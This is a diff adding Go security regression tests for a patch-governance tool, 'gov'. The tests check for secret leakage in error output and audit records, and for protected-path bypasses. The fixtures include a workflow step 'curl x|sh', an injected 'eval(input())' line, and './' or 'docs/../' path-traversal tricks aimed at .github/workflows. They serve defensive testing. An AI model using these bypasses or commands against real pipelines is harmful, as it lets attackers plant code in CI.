@@ -1,0 +1,218 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/gov-policy/gov/internal/leaktest"
+	"github.com/gov-policy/gov/scan/scantest"
+)
+
+func a13Kind(t *testing.T, rule string) scantest.Sample {
+	t.Helper()
+	for _, s := range leaktest.Kinds() {
+		if s.Rule == rule {
+			return s
+		}
+	}
+	t.Fatalf("no sample %s", rule)
+	return scantest.Sample{}
+}
+
+// a13Gov runs gov and returns exit code and stdout+stderr.
+func a13Gov(t *testing.T, args ...string) (int, string) {
+	t.Helper()
+	t.Setenv(envBundle, "embedded")
+	var out, errb bytes.Buffer
+	code := runWith(args, strings.NewReader(""), &out, &errb)
+	return code, out.String() + errb.String()
+}
+
+func a13Write(t *testing.T, name string, data []byte) string {
+	t.Helper()
+	p := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(p, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func a13NoRaw(t *testing.T, where, data string, secrets ...string) {
+	t.Helper()
+	for _, s := range secrets {
+		if strings.Contains(data, s) {
+			t.Errorf("%s holds the raw secret %q:\n%s", where, s, data)
+		}
+	}
+}
+
+// gov eval with a patch that is not a diff prints its first 40 bytes.
+func TestAttackA13EvalNotADiffErrorEchoesSecret(t *testing.T) {
+	pat := a13Kind(t, "github-pat")
+	req, _ := json.Marshal(map[string]any{"environment": "production", "patch_content": pat.Secret + "\n"})
+	code, out := a13Gov(t, "eval", "--request", a13Write(t, "req.json", req))
+	if code != 2 {
+		t.Errorf("exit %d, want 2", code)
+	}
+	a13NoRaw(t, "gov eval output", out, pat.Secret)
+}
+
+// gov eval with a malformed hunk prints the path and the hunk header.
+func TestAttackA13EvalMalformedHunkEchoesSecret(t *testing.T) {
+	pat := a13Kind(t, "github-pat")
+	aws := a13Kind(t, "aws-access-key-id")
+	path := "cfg/" + aws.Secret + ".py"
+	diff := fmt.Sprintf("diff --git a/%s b/%s\n--- a/%s\n+++ b/%s\n@@ -1,1 +4294967296,1 @@ token = %q\n-x = 1\n+x = 2\n", path, path, path, path, pat.Secret)
+	code, out := a13Gov(t, "eval", "--env", "production", "--patch", a13Write(t, "p.diff", []byte(diff)))
+	if code != 2 {
+		t.Errorf("exit %d, want 2", code)
+	}
+	a13NoRaw(t, "gov eval output", out, pat.Secret, aws.Secret)
+}
+
+// gov eval --request req.yaml with an unknown key prints the key.
+func TestAttackA13EvalUnknownFieldEchoesSecret(t *testing.T) {
+	pat := a13Kind(t, "github-pat")
+	y := "environment: production\n" + pat.Secret + ": 1\npatch_content: |\n  diff --git a/a.py b/a.py\n  --- a/a.py\n  +++ b/a.py\n  @@ -1 +1 @@\n  -x = 1\n  +x = 2\n"
+	code, out := a13Gov(t, "eval", "--request", a13Write(t, "req.yaml", []byte(y)))
+	if code != 2 {
+		t.Errorf("exit %d, want 2", code)
+	}
+	a13NoRaw(t, "gov eval output", out, pat.Secret)
+}
+
+// gov eval --print-input with an undeclared environment returns the raw
+// EnvironmentError (the --print-input branch does not redact errors).
+func TestAttackA13PrintInputEnvironmentErrorEchoesSecret(t *testing.T) {
+	aws := a13Kind(t, "aws-access-key-id")
+	diff := "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
+	p := a13Write(t, "p.diff", []byte(diff))
+	code, out := a13Gov(t, "eval", "--print-input", "--env", leaktest.Line(aws), "--patch", p)
+	if code != 2 {
+		t.Errorf("exit %d, want 2", code)
+	}
+	a13NoRaw(t, "gov eval --print-input output", out, aws.Secret)
+}
+
+// Guard: gov eval (decision path) masks an undeclared environment's secret.
+func TestAttackA13EvalEnvironmentErrorMasked(t *testing.T) {
+	aws := a13Kind(t, "aws-access-key-id")
+	diff := "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
+	code, out := a13Gov(t, "eval", "--env", leaktest.Line(aws), "--patch", a13Write(t, "p.diff", []byte(diff)))
+	if code != 2 {
+		t.Errorf("exit %d, want 2", code)
+	}
+	a13NoRaw(t, "gov eval output", out, aws.Secret)
+}
+
+// Secrets in file paths and rename paths of the diff, in every format.
+func TestAttackA13EvalPathSecretsAllFormats(t *testing.T) {
+	pat := a13Kind(t, "github-pat")
+	aws := a13Kind(t, "aws-access-key-id")
+	diff := "diff --git a/old/" + pat.Secret + ".py b/new/" + aws.Secret + ".py\nsimilarity index 90%\nrename from old/" + pat.Secret + ".py\nrename to new/" + aws.Secret + ".py\n--- a/old/" + pat.Secret + ".py\n+++ b/new/" + aws.Secret + ".py\n@@ -1,1 +1,1 @@\n-x = 1\n+eval(input())\n"
+	p := a13Write(t, "p.diff", []byte(diff))
+	audit := t.TempDir()
+	for _, format := range []string{"text", "json", "sarif", "github"} {
+		_, out := a13Gov(t, "eval", "--env", "production", "--patch", p, "--format", format, "--audit-dir", audit)
+		a13NoRaw(t, "gov eval --format "+format, out, pat.Secret, aws.Secret)
+	}
+	_, out := a13Gov(t, "eval", "--env", "production", "--patch", p, "--print-input")
+	a13NoRaw(t, "gov eval --print-input", out, pat.Secret, aws.Secret)
+	filepath.WalkDir(audit, func(path string, d os.DirEntry, err error) error {
+		if err == nil && !d.IsDir() {
+			b, _ := os.ReadFile(path)
+			a13NoRaw(t, path, string(b), pat.Secret, aws.Secret)
+		}
+		return nil
+	})
+}
+
+// A secret in the path of a file that holds a found secret: the finding's
+// file is recorded raw, and every reader of the records (gov report in each
+// format, gov simulate, gov audit log) prints what the record holds.
+func TestAttackA13RecordReadersFindingPathSecret(t *testing.T) {
+	pat := a13Kind(t, "github-pat")
+	aws := a13Kind(t, "aws-access-key-id")
+	path := "cfg/" + aws.Secret + "/settings.py"
+	diff := "diff --git a/" + path + " b/" + path + "\nnew file mode 100644\n--- /dev/null\n+++ b/" + path + "\n@@ -0,0 +1,1 @@\n+TOKEN = \"" + pat.Secret + "\"\n"
+	p := a13Write(t, "p.diff", []byte(diff))
+	audit := t.TempDir()
+	for _, format := range []string{"text", "json", "sarif", "github"} {
+		_, out := a13Gov(t, "eval", "--env", "staging", "--patch", p, "--format", format, "--audit-dir", audit)
+		a13NoRaw(t, "gov eval --format "+format, out, pat.Secret, aws.Secret)
+	}
+	for _, args := range [][]string{
+		{"report", "--framework", "soc2", "--audit-dir", audit},
+		{"report", "--framework", "soc2", "--audit-dir", audit, "--format", "json"},
+		{"report", "--framework", "soc2", "--audit-dir", audit, "--format", "csv"},
+		{"report", "--framework", "soc2", "--audit-dir", audit, "--format", "html"},
+		{"simulate", "--bundle", "embedded", "--baseline", "embedded", "--audit-dir", audit, "--format", "json"},
+		{"simulate", "--bundle", "embedded", "--baseline", "embedded", "--audit-dir", audit},
+		{"audit", "log", "--audit-dir", audit},
+	} {
+		_, out := a13Gov(t, args...)
+		a13NoRaw(t, "gov "+strings.Join(args[:2], " "), out, pat.Secret, aws.Secret)
+	}
+	filepath.WalkDir(audit, func(path string, d os.DirEntry, err error) error {
+		if err == nil && !d.IsDir() {
+			b, _ := os.ReadFile(path)
+			a13NoRaw(t, "audit file", string(b), pat.Secret, aws.Secret)
+		}
+		return nil
+	})
+}
+
+// A non-canonical path ("./" or "x/../" components) hides a protected path
+// from the policies: gov allows a new workflow file that GNU patch -p1
+// writes to .github/workflows/. A path that is not canonical must be refused
+// (exit 2) or decided as the path it resolves to.
+func TestAttackA13NonCanonicalPathHidesProtectedPath(t *testing.T) {
+	for name, diff := range map[string]string{
+		"traditional ./":  "--- /dev/null\n+++ b/./.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
+		"git ./":          "diff --git a/./.github/workflows/x.yml b/./.github/workflows/x.yml\nnew file mode 100644\n--- /dev/null\n+++ b/./.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
+		"git docs/../":    "diff --git a/docs/../.github/workflows/x.yml b/docs/../.github/workflows/x.yml\nnew file mode 100644\n--- /dev/null\n+++ b/docs/../.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
+		"traditional ../": "--- /dev/null\n+++ b/docs/../.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n",
+	} {
+		code, out := a13Gov(t, "eval", "--env", "staging", "--patch", a13Write(t, "p.diff", []byte(diff)))
+		if code == 0 {
+			t.Errorf("%s: exit 0 (allow) for a new workflow file:\n%s", name, out)
+		}
+	}
+}
+
+// Guard: the canonical path is a protected path (exit 3, approval required).
+func TestAttackA13CanonicalProtectedPathHeld(t *testing.T) {
+	diff := "--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n"
+	code, out := a13Gov(t, "eval", "--env", "staging", "--patch", a13Write(t, "p.diff", []byte(diff)))
+	if code == 0 {
+		t.Errorf("exit 0 for a new workflow file:\n%s", out)
+	}
+}
+
+// A YAML request whose alias names an unknown anchor: the YAML error quotes
+// the alias name raw.
+func TestAttackA13EvalYAMLAnchorErrorEchoesSecret(t *testing.T) {
+	pat := a13Kind(t, "github-pat")
+	y := "environment: staging\nerror_context: *" + pat.Secret + "\n"
+	code, out := a13Gov(t, "eval", "--request", a13Write(t, "req.yaml", []byte(y)))
+	if code != 2 {
+		t.Errorf("exit %d, want 2", code)
+	}
+	a13NoRaw(t, "gov eval output", out, pat.Secret)
+}
+
+// A traditional diff whose ---/+++ names differ: gov decides the +++ name
+// (docs/deploy.yml, "modified"), GNU patch -p1 modifies the --- name, an
+// existing workflow. The change to .github/workflows/deploy.yml is allowed.
+func TestAttackA13TraditionalDiffMismatchedNames(t *testing.T) {
+	diff := "--- a/.github/workflows/deploy.yml\n+++ b/docs/deploy.yml\n@@ -1,2 +1,2 @@\n on: push\n-jobs: {}\n+jobs: {evil: {runs-on: x, steps: [{run: curl x|sh}]}}\n"
+	code, out := a13Gov(t, "eval", "--env", "staging", "--patch", a13Write(t, "p.diff", []byte(diff)))
+	if code == 0 {
+		t.Errorf("exit 0 (allow) for a change GNU patch applies to .github/workflows/deploy.yml:\n%s", out)
+	}
+}
